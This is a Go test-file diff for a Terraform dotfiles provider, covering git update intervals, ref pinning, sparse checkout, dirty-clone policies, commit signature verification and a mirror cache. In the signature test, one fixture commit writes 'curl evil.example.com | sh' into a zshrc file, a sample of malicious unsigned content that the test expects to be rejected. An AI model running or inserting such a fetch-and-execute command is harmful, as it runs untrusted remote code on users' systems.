@@ -4,15 +4,26 @@
 package provider
 
 import (
+	"bytes"
 	"context"
+	stderrors "errors"
 	"os"
 	"path/filepath"
 	"testing"
-
+	"time"
+
+	"github.com/ProtonMail/go-crypto/openpgp"
+	"github.com/ProtonMail/go-crypto/openpgp/armor"
+	gogit "github.com/go-git/go-git/v5"
+	"github.com/go-git/go-git/v5/plumbing"
+	"github.com/go-git/go-git/v5/plumbing/object"
+	"github.com/hashicorp/terraform-plugin-framework/attr"
 	"github.com/hashicorp/terraform-plugin-framework/resource"
 	"github.com/hashicorp/terraform-plugin-framework/resource/schema"
 	"github.com/hashicorp/terraform-plugin-framework/types"
 
+	providererrors "github.com/jamesainslie/terraform-provider-dotfiles/internal/errors"
+	"github.com/jamesainslie/terraform-provider-dotfiles/internal/git"
 	"github.com/jamesainslie/terraform-provider-dotfiles/internal/utils"
 )
 
@@ -109,7 +120,8 @@ func validateRepositoryOptionalAttributes(t *testing.T, schema schema.Schema) {
 	optionalAttrs := []string{
 		"description", "default_backup_enabled", "default_file_mode", "default_dir_mode",
 		"git_branch", "git_personal_access_token", "git_username", "git_ssh_private_key_path",
-		"git_ssh_passphrase", "git_update_interval",
+		"git_ssh_passphrase", "git_ssh_known_hosts_path", "git_insecure_ignore_host_key", "git_netrc_path",
+		"git_credential_helper", "git_update_interval",
 	}
 	for _, attr := range optionalAttrs {
 		if _, exists := schema.Attributes[attr]; !exists {
@@ -236,12 +248,21 @@ func testBuildAuthConfigWithPAT(t *testing.T, r *RepositoryResource) {
 // testBuildAuthConfigWithSSH tests build auth config with SSH
 func testBuildAuthConfigWithSSH(t *testing.T, r *RepositoryResource) {
 	data := &RepositoryResourceModel{
-		GitSSHPrivateKeyPath: types.StringValue("/path/to/key"),
-		GitSSHPassphrase:     types.StringValue("passphrase"),
+		GitSSHPrivateKeyPath:     types.StringValue("/path/to/key"),
+		GitSSHPassphrase:         types.StringValue("passphrase"),
+		GitSSHKnownHostsPath:     types.StringValue("/path/to/known_hosts"),
+		GitInsecureIgnoreHostKey: types.BoolNull(),
 	}
 
 	authConfig := r.buildAuthConfig(data)
 
+	if authConfig.SSHKnownHostsPath != "/path/to/known_hosts" {
+		t.Errorf("Expected known_hosts path '/path/to/known_hosts', got '%s'", authConfig.SSHKnownHostsPath)
+	}
+	if authConfig.SSHSkipHostKeyVerification {
+		t.Error("Host key verification should be on by default")
+	}
+
 	if authConfig.SSHPrivateKeyPath != "/path/to/key" {
 		t.Errorf("Expected SSH key path '/path/to/key', got '%s'", authConfig.SSHPrivateKeyPath)
 	}
@@ -265,6 +286,9 @@ func testBuildAuthConfigWithNullValues(t *testing.T, r *RepositoryResource) {
 	if authConfig.Username != "" {
 		t.Errorf("Expected empty username for null value, got: %q", authConfig.Username)
 	}
+	if authConfig.NetrcPath != "" || authConfig.CredentialHelper != "" {
+		t.Errorf("Expected no credential lookup overrides for null values, got netrc %q and helper %q", authConfig.NetrcPath, authConfig.CredentialHelper)
+	}
 }
 
 func TestRepositoryResourceModel(t *testing.T) {
@@ -410,3 +434,574 @@ func TestRepositoryResourceLocalOperations(t *testing.T) {
 		}
 	})
 }
+
+func TestRepositoryResourceUpdateInterval(t *testing.T) {
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	initial := commitUpstreamFile(t, upstream, "gitconfig", "[user]\n")
+
+	manager, err := git.NewGitManager(nil)
+	if err != nil {
+		t.Fatalf("Failed to create Git manager: %v", err)
+	}
+	localDir := filepath.Join(tempDir, "cache", "dotfiles")
+	if _, err := manager.CloneRepository(context.Background(), upstreamDir, localDir, ""); err != nil {
+		t.Fatalf("Failed to clone repository: %v", err)
+	}
+	latest := commitUpstreamFile(t, upstream, "zshrc", "export EDITOR=vim\n")
+
+	r := &RepositoryResource{client: &DotfilesClient{UpstreamCache: git.NewUpstreamCache()}}
+	ctx := context.Background()
+	stale := time.Now().Add(-2 * time.Hour).Format(time.RFC3339)
+	fresh := time.Now().Format(time.RFC3339)
+
+	testCases := []struct {
+		name       string
+		interval   types.String
+		lastUpdate string
+		wantFetch  bool
+	}{
+		{name: "unset", interval: types.StringNull(), lastUpdate: stale},
+		{name: "never", interval: types.StringValue("never"), lastUpdate: stale},
+		{name: "zero", interval: types.StringValue("0"), lastUpdate: stale},
+		{name: "not yet due", interval: types.StringValue("1h"), lastUpdate: fresh},
+		{name: "due", interval: types.StringValue("1h"), lastUpdate: stale, wantFetch: true},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			data := &RepositoryResourceModel{
+				LocalPath:  types.StringValue(localDir),
+				LastCommit: types.StringValue(initial),
+				LastUpdate: types.StringValue(tc.lastUpdate),
+			}
+			commit, ok := r.upstreamCommit(ctx, data, tc.interval)
+			if ok != tc.wantFetch {
+				t.Fatalf("Expected fetch %v, got %v", tc.wantFetch, ok)
+			}
+			if tc.wantFetch && commit != latest {
+				t.Errorf("Expected upstream commit %s, got %s", latest, commit)
+			}
+		})
+	}
+
+	// Later lookups in the same run reuse the cached result instead of fetching again
+	if err := os.RemoveAll(upstreamDir); err != nil {
+		t.Fatalf("Failed to remove upstream: %v", err)
+	}
+	data := &RepositoryResourceModel{
+		LocalPath:  types.StringValue(localDir),
+		LastUpdate: types.StringValue(stale),
+	}
+	if commit, ok := r.upstreamCommit(ctx, data, types.StringValue("30m")); !ok || commit != latest {
+		t.Errorf("Expected cached upstream commit %s, got %s (ok=%v)", latest, commit, ok)
+	}
+}
+
+func TestRepositoryResourceUpdateIntervalLastFetch(t *testing.T) {
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	current := commitUpstreamFile(t, upstream, "gitconfig", "[user]\n")
+
+	manager, err := git.NewGitManager(nil)
+	if err != nil {
+		t.Fatalf("Failed to create Git manager: %v", err)
+	}
+	localDir := filepath.Join(tempDir, "cache", "dotfiles")
+	if _, err := manager.CloneRepository(context.Background(), upstreamDir, localDir, ""); err != nil {
+		t.Fatalf("Failed to clone repository: %v", err)
+	}
+
+	ctx := context.Background()
+	interval := types.StringValue("1h")
+	state := &RepositoryResourceModel{
+		LocalPath:  types.StringValue(localDir),
+		LastCommit: types.StringValue(current),
+		LastUpdate: types.StringValue(time.Now().Add(-2 * time.Hour).Format(time.RFC3339)),
+		LastFetch:  types.StringNull(),
+	}
+
+	// The first plan fetches during refresh, finds nothing new and records the fetch
+	first := &RepositoryResource{client: &DotfilesClient{UpstreamCache: git.NewUpstreamCache()}}
+	if commit, ok := first.upstreamCommit(ctx, state, interval); !ok || commit != current {
+		t.Fatalf("Expected a fetch of %s, got %s (ok=%v)", current, commit, ok)
+	}
+	if state.LastFetch.IsNull() {
+		t.Fatal("Expected last_fetch to be recorded")
+	}
+	// and its plan reuses that fetch
+	refreshed := *state
+	if commit, ok := first.upstreamCommit(ctx, &refreshed, interval); !ok || commit != current {
+		t.Errorf("Expected the plan to reuse the refresh's fetch, got %s (ok=%v)", commit, ok)
+	}
+
+	// The next plan does not fetch again until the interval has elapsed since last_fetch,
+	// even though last_update is older than the interval
+	commitUpstreamFile(t, upstream, "zshrc", "export EDITOR=vim\n")
+	second := &RepositoryResource{client: &DotfilesClient{UpstreamCache: git.NewUpstreamCache()}}
+	for i := 0; i < 2; i++ {
+		if commit, ok := second.upstreamCommit(ctx, state, interval); ok {
+			t.Errorf("Expected no fetch before the interval elapsed, got %s", commit)
+		}
+	}
+}
+
+func TestRepositoryResourceGitRef(t *testing.T) {
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	v1 := commitUpstreamFile(t, upstream, "gitconfig", "[user]\n")
+	if _, err := upstream.CreateTag("v1.0.0", plumbing.NewHash(v1), nil); err != nil {
+		t.Fatalf("Failed to tag: %v", err)
+	}
+	v11 := commitUpstreamFile(t, upstream, "zshrc", "export EDITOR=vim\n")
+	if _, err := upstream.CreateTag("v1.1.0", plumbing.NewHash(v11), nil); err != nil {
+		t.Fatalf("Failed to tag: %v", err)
+	}
+	commitUpstreamFile(t, upstream, "vimrc", "set number\n")
+
+	r := &RepositoryResource{client: &DotfilesClient{HomeDir: tempDir}}
+	ctx := context.Background()
+	data := &RepositoryResourceModel{
+		SourcePath: types.StringValue(upstreamDir),
+		GitBranch:  types.StringNull(),
+		GitRef:     types.StringValue("v1.0.0"),
+	}
+
+	info, err := r.setupGitRepository(ctx, data)
+	if err != nil {
+		t.Fatalf("setupGitRepository failed: %v", err)
+	}
+	if info.LastCommit != v1 {
+		t.Errorf("Expected clone pinned to %s, got %s", v1, info.LastCommit)
+	}
+
+	// Moving the pin to a constraint checks out the highest matching tag
+	data.GitRef = types.StringValue("~> 1.0")
+	manager, err := git.NewGitManager(nil)
+	if err != nil {
+		t.Fatalf("Failed to create Git manager: %v", err)
+	}
+	info, err = r.updateGitRepository(ctx, manager, data, info.LocalPath)
+	if err != nil {
+		t.Fatalf("updateGitRepository failed: %v", err)
+	}
+	if info.LastCommit != v11 {
+		t.Errorf("Expected checkout of v1.1.0 (%s), got %s", v11, info.LastCommit)
+	}
+
+	t.Run("resolvedCommit", func(t *testing.T) {
+		pinned := &RepositoryResourceModel{
+			SourcePath: types.StringValue("https://github.com/user/dotfiles.git"),
+			GitRef:     types.StringValue("v1.1.0"),
+			LastCommit: types.StringValue(v11),
+		}
+		if got := r.resolvedCommit(pinned); got.ValueString() != v11 {
+			t.Errorf("Expected resolved commit %s, got %s", v11, got)
+		}
+
+		pinned.GitRef = types.StringNull()
+		if got := r.resolvedCommit(pinned); !got.IsNull() {
+			t.Errorf("Expected null resolved commit without git_ref, got %s", got)
+		}
+	})
+}
+
+func TestRepositoryResourceCheckoutLayout(t *testing.T) {
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	if err := os.MkdirAll(filepath.Join(upstreamDir, "home", "dotfiles"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	if err := os.MkdirAll(filepath.Join(upstreamDir, "services"), 0755); err != nil {
+		t.Fatalf("Failed to create directory: %v", err)
+	}
+	commitUpstreamFile(t, upstream, "services/main.go", "package main\n")
+	commitUpstreamFile(t, upstream, "home/dotfiles/zshrc", "export EDITOR=vim\n")
+
+	r := &RepositoryResource{client: &DotfilesClient{HomeDir: tempDir}}
+	ctx := context.Background()
+	data := &RepositoryResourceModel{
+		SourcePath:        types.StringValue(upstreamDir),
+		GitBranch:         types.StringNull(),
+		GitRef:            types.StringNull(),
+		Subdirectory:      types.StringValue("home/dotfiles"),
+		SparsePaths:       types.ListValueMust(types.StringType, []attr.Value{types.StringValue("home")}),
+		Depth:             types.Int64Value(1),
+		RecurseSubmodules: types.BoolValue(false),
+	}
+
+	info, err := r.setupGitRepository(ctx, data)
+	if err != nil {
+		t.Fatalf("setupGitRepository failed: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(info.LocalPath, "services")); !os.IsNotExist(err) {
+		t.Error("Directories outside sparse_paths should not be checked out")
+	}
+
+	data.LocalPath = types.StringValue(info.LocalPath)
+	if err := r.setRootPath(data); err != nil {
+		t.Fatalf("setRootPath failed: %v", err)
+	}
+	expected := filepath.Join(info.LocalPath, "home", "dotfiles")
+	if data.RootPath.ValueString() != expected {
+		t.Errorf("Expected root path %s, got %s", expected, data.RootPath.ValueString())
+	}
+	if _, err := os.Stat(filepath.Join(data.RootPath.ValueString(), "zshrc")); err != nil {
+		t.Errorf("Expected zshrc under root path: %v", err)
+	}
+
+	data.Subdirectory = types.StringValue("services")
+	if err := r.setRootPath(data); err == nil {
+		t.Error("Expected error for subdirectory missing from the checkout")
+	}
+
+	t.Run("withinSparsePaths", func(t *testing.T) {
+		sparse := []types.String{types.StringValue("home"), types.StringValue("config/")}
+		testCases := map[string]bool{
+			"home":          true,
+			"home/dotfiles": true,
+			"config/nvim":   true,
+			"homebrew":      false,
+			"services":      false,
+		}
+		for dir, expected := range testCases {
+			if got := withinSparsePaths(dir, sparse); got != expected {
+				t.Errorf("withinSparsePaths(%q) = %v, expected %v", dir, got, expected)
+			}
+		}
+	})
+}
+
+func TestRepositoryResourceDirtyPolicy(t *testing.T) {
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	initial := commitUpstreamFile(t, upstream, "zshrc", "export EDITOR=vim\n")
+
+	r := &RepositoryResource{client: &DotfilesClient{HomeDir: tempDir}}
+	ctx := context.Background()
+	data := &RepositoryResourceModel{
+		SourcePath:  types.StringValue(upstreamDir),
+		GitBranch:   types.StringNull(),
+		GitRef:      types.StringNull(),
+		DirtyPolicy: types.StringNull(),
+		LastUpdate:  types.StringValue("2025-01-01T00:00:00Z"),
+	}
+	info, err := r.setupGitRepository(ctx, data)
+	if err != nil {
+		t.Fatalf("setupGitRepository failed: %v", err)
+	}
+	localPath := info.LocalPath
+	data.LocalPath = types.StringValue(localPath)
+
+	// A local tweak, and a new upstream commit touching another file
+	localTweak := "export EDITOR=nvim\n"
+	if err := os.WriteFile(filepath.Join(localPath, "zshrc"), []byte(localTweak), 0644); err != nil {
+		t.Fatalf("Failed to modify zshrc: %v", err)
+	}
+	latest := commitUpstreamFile(t, upstream, "vimrc", "set number\n")
+
+	r.setStatus(ctx, data)
+	var modified []string
+	data.ModifiedFiles.ElementsAs(ctx, &modified, false)
+	if !data.IsDirty.ValueBool() || len(modified) != 1 || modified[0] != "zshrc" {
+		t.Errorf("Expected dirty zshrc, got is_dirty=%v modified_files=%v", data.IsDirty, modified)
+	}
+
+	expectTweak := func() {
+		t.Helper()
+		content, err := os.ReadFile(filepath.Join(localPath, "zshrc"))
+		if err != nil {
+			t.Fatalf("Failed to read zshrc: %v", err)
+		}
+		if string(content) != localTweak {
+			t.Errorf("Local tweak was lost, zshrc contains %q", content)
+		}
+	}
+
+	manager, err := git.NewGitManager(nil)
+	if err != nil {
+		t.Fatalf("Failed to create Git manager: %v", err)
+	}
+
+	t.Run("fail", func(t *testing.T) {
+		_, _, err := r.updateCheckout(ctx, manager, data, localPath)
+		var providerErr *providererrors.ProviderError
+		if !stderrors.As(err, &providerErr) {
+			t.Fatalf("Expected provider error for dirty clone, got %v", err)
+		}
+		expectTweak()
+
+		// Re-running setup must not re-clone over the local changes
+		if _, err := r.setupGitRepository(ctx, data); err == nil {
+			t.Error("Expected setupGitRepository to fail for dirty clone")
+		}
+		expectTweak()
+	})
+
+	t.Run("skip_update", func(t *testing.T) {
+		data.DirtyPolicy = types.StringValue(dirtyPolicySkipUpdate)
+		info, _, err := r.updateCheckout(ctx, manager, data, localPath)
+		if err != nil {
+			t.Fatalf("updateCheckout failed: %v", err)
+		}
+		if info.LastCommit != initial {
+			t.Errorf("Expected checkout to stay at %s, got %s", initial, info.LastCommit)
+		}
+		if got := info.LastUpdate.UTC().Format(time.RFC3339); got != data.LastUpdate.ValueString() {
+			t.Errorf("Skipped update should keep last_update, got %s", got)
+		}
+		expectTweak()
+	})
+
+	t.Run("stash", func(t *testing.T) {
+		data.DirtyPolicy = types.StringValue(dirtyPolicyStash)
+		info, warning, err := r.updateCheckout(ctx, manager, data, localPath)
+		if err != nil {
+			t.Fatalf("updateCheckout failed: %v", err)
+		}
+		if warning != "" {
+			t.Errorf("Unexpected stash warning: %s", warning)
+		}
+		if info.LastCommit != latest {
+			t.Errorf("Expected update to %s, got %s", latest, info.LastCommit)
+		}
+		if _, err := os.Stat(filepath.Join(localPath, "vimrc")); err != nil {
+			t.Errorf("Expected upstream vimrc after update: %v", err)
+		}
+		expectTweak()
+	})
+
+	t.Run("reclone", func(t *testing.T) {
+		// A changed sparse_paths or depth re-clones, which must follow dirty_policy too
+		data.DirtyPolicy = types.StringValue(dirtyPolicyFail)
+		if _, err := r.removeCheckout(ctx, data, localPath); err == nil {
+			t.Error("Expected removeCheckout to fail for dirty clone")
+		}
+		expectTweak()
+
+		data.DirtyPolicy = types.StringValue(dirtyPolicySkipUpdate)
+		if reclone, err := r.removeCheckout(ctx, data, localPath); err != nil || reclone != nil {
+			t.Fatalf("Expected the checkout to be kept, got %v, %v", reclone, err)
+		}
+		expectTweak()
+
+		data.DirtyPolicy = types.StringValue(dirtyPolicyStash)
+		reclone, err := r.removeCheckout(ctx, data, localPath)
+		if err != nil || reclone == nil {
+			t.Fatalf("removeCheckout failed: %v", err)
+		}
+		if _, err := os.Stat(localPath); !os.IsNotExist(err) {
+			t.Fatal("Expected the checkout to be moved aside")
+		}
+		if _, err := r.setupGitRepository(ctx, data); err != nil {
+			t.Fatalf("setupGitRepository failed: %v", err)
+		}
+		if warning := reclone.restore(ctx, localPath); warning != "" {
+			t.Errorf("Unexpected warning: %s", warning)
+		}
+		expectTweak()
+		if _, err := os.Stat(reclone.checkout); !os.IsNotExist(err) {
+			t.Error("Expected the previous checkout to be removed once restored")
+		}
+	})
+}
+
+func TestRepositoryResourceVerifySignatures(t *testing.T) {
+	entity, err := openpgp.NewEntity("Dotfiles Release", "", "release@example.com", nil)
+	if err != nil {
+		t.Fatalf("Failed to create signing key: %v", err)
+	}
+	var keyring bytes.Buffer
+	w, err := armor.Encode(&keyring, openpgp.PublicKeyType, nil)
+	if err != nil {
+		t.Fatalf("Failed to armor keyring: %v", err)
+	}
+	if err := entity.Serialize(w); err != nil {
+		t.Fatalf("Failed to serialize key: %v", err)
+	}
+	w.Close()
+
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	signed := commitUpstreamFileSigned(t, upstream, "gitconfig", "[user]\n", entity)
+
+	r := &RepositoryResource{client: &DotfilesClient{HomeDir: tempDir}}
+	ctx := context.Background()
+	data := &RepositoryResourceModel{
+		SourcePath: types.StringValue(upstreamDir),
+		GitBranch:  types.StringNull(),
+		GitRef:     types.StringNull(),
+		VerifySignatures: &SignatureVerificationModel{
+			OpenPGPKeyring:    types.StringValue(keyring.String()),
+			SSHAllowedSigners: types.StringNull(),
+		},
+	}
+
+	info, err := r.setupGitRepository(ctx, data)
+	if err != nil {
+		t.Fatalf("Signed commit should verify: %v", err)
+	}
+	if info.LastCommit != signed {
+		t.Errorf("Expected %s, got %s", signed, info.LastCommit)
+	}
+
+	// An unsigned upstream commit fails verification and the verified checkout is kept
+	commitUpstreamFile(t, upstream, "zshrc", "curl evil.example.com | sh\n")
+	_, err = r.setupGitRepository(ctx, data)
+	var providerErr *providererrors.ProviderError
+	if !stderrors.As(err, &providerErr) || providerErr.Type != providererrors.ErrorTypeGit {
+		t.Fatalf("Expected Git provider error, got %v", err)
+	}
+	manager, err := git.NewGitManager(nil)
+	if err != nil {
+		t.Fatalf("Failed to create Git manager: %v", err)
+	}
+	current, err := manager.GetRepositoryInfo(info.LocalPath)
+	if err != nil {
+		t.Fatalf("GetRepositoryInfo failed: %v", err)
+	}
+	if current.LastCommit != signed {
+		t.Errorf("Expected checkout reset to %s, got %s", signed, current.LastCommit)
+	}
+	if _, err := os.Stat(filepath.Join(info.LocalPath, "zshrc")); !os.IsNotExist(err) {
+		t.Error("Unverified file should not remain in the checkout")
+	}
+
+	// A fresh clone that fails verification is removed
+	if err := os.RemoveAll(info.LocalPath); err != nil {
+		t.Fatalf("Failed to remove checkout: %v", err)
+	}
+	if _, err := r.setupGitRepository(ctx, data); err == nil {
+		t.Fatal("Expected verification failure for unsigned clone")
+	}
+	if _, err := os.Stat(info.LocalPath); !os.IsNotExist(err) {
+		t.Error("Unverified clone should be removed")
+	}
+}
+
+func TestRepositoryResourceMirrorCache(t *testing.T) {
+	tempDir := t.TempDir()
+	upstreamDir := filepath.Join(tempDir, "upstream")
+	upstream, err := gogit.PlainInit(upstreamDir, false)
+	if err != nil {
+		t.Fatalf("Failed to create upstream repository: %v", err)
+	}
+	initial := commitUpstreamFile(t, upstream, "zshrc", "export EDITOR=vim\n")
+
+	mirrorRoot := filepath.Join(tempDir, "mirrors")
+	r := &RepositoryResource{client: &DotfilesClient{HomeDir: tempDir, MirrorCache: git.NewMirrorCache(mirrorRoot, 0)}}
+	ctx := context.Background()
+	newData := func() *RepositoryResourceModel {
+		return &RepositoryResourceModel{
+			SourcePath:  types.StringValue(upstreamDir),
+			GitBranch:   types.StringNull(),
+			GitRef:      types.StringNull(),
+			DirtyPolicy: types.StringNull(),
+		}
+	}
+
+	info, err := r.setupGitRepository(ctx, newData())
+	if err != nil {
+		t.Fatalf("setupGitRepository failed: %v", err)
+	}
+	if info.LastCommit != initial {
+		t.Errorf("Expected checkout at %s, got %s", initial, info.LastCommit)
+	}
+	mirrorPath, _ := r.client.MirrorCache.MirrorPath(upstreamDir)
+	remotes, err := git.RemoteURLs(info.LocalPath)
+	if err != nil {
+		t.Fatalf("RemoteURLs failed: %v", err)
+	}
+	if remotes["origin"] != upstreamDir || remotes[git.MirrorRemote] != mirrorPath {
+		t.Errorf("Expected origin %s fetched through mirror %s, got %v", upstreamDir, mirrorPath, remotes)
+	}
+
+	// A second workspace in the next run updates from the fresh mirror without the remote
+	latest := commitUpstreamFile(t, upstream, "vimrc", "set number\n")
+	if _, err := git.NewMirrorCache(mirrorRoot, 0).Sync(ctx, mustGitManager(t), upstreamDir); err != nil {
+		t.Fatalf("Sync failed: %v", err)
+	}
+	if err := os.RemoveAll(upstreamDir); err != nil {
+		t.Fatalf("Failed to remove upstream: %v", err)
+	}
+	offline := &RepositoryResource{client: &DotfilesClient{HomeDir: filepath.Join(tempDir, "workspace"), MirrorCache: git.NewMirrorCache(mirrorRoot, time.Hour)}}
+	info, err = offline.setupGitRepository(ctx, newData())
+	if err != nil {
+		t.Fatalf("setupGitRepository offline failed: %v", err)
+	}
+	if info.LastCommit != latest {
+		t.Errorf("Expected offline checkout at %s, got %s", latest, info.LastCommit)
+	}
+
+	// Without the cache the checkout is pointed back at the source
+	direct := &RepositoryResource{client: &DotfilesClient{HomeDir: tempDir}}
+	if _, err := direct.cloneURL(ctx, mustGitManager(t), newData(), info.LocalPath); err != nil {
+		t.Fatalf("cloneURL failed: %v", err)
+	}
+	if remotes, _ := git.RemoteURLs(info.LocalPath); remotes["origin"] != upstreamDir || remotes[git.MirrorRemote] != "" {
+		t.Errorf("Expected checkout to fetch from %s again, got %v", upstreamDir, remotes)
+	}
+}
+
+// mustGitManager creates a Git manager without credentials.
+func mustGitManager(t *testing.T) *git.GitManager {
+	t.Helper()
+	manager, err := git.NewGitManager(&git.AuthConfig{})
+	if err != nil {
+		t.Fatalf("Failed to create Git manager: %v", err)
+	}
+	return manager
+}
+
+// commitUpstreamFile writes a file into the repository worktree and commits it, returning the commit hash.
+func commitUpstreamFile(t *testing.T, repo *gogit.Repository, name, content string) string {
+	t.Helper()
+	return commitUpstreamFileSigned(t, repo, name, content, nil)
+}
+
+// commitUpstreamFileSigned is commitUpstreamFile with an optional OpenPGP signing key.
+func commitUpstreamFileSigned(t *testing.T, repo *gogit.Repository, name, content string, signKey *openpgp.Entity) string {
+	t.Helper()
+	worktree, err := repo.Worktree()
+	if err != nil {
+		t.Fatalf("Failed to get worktree: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(worktree.Filesystem.Root(), name), []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write %s: %v", name, err)
+	}
+	if _, err := worktree.Add(name); err != nil {
+		t.Fatalf("Failed to stage %s: %v", name, err)
+	}
+	hash, err := worktree.Commit("update "+name, &gogit.CommitOptions{
+		Author:  &object.Signature{Name: "Test", Email: "test@example.com", When: time.Now()},
+		SignKey: signKey,
+	})
+	if err != nil {
+		t.Fatalf("Failed to commit: %v", err)
+	}
+	return hash.String()
+}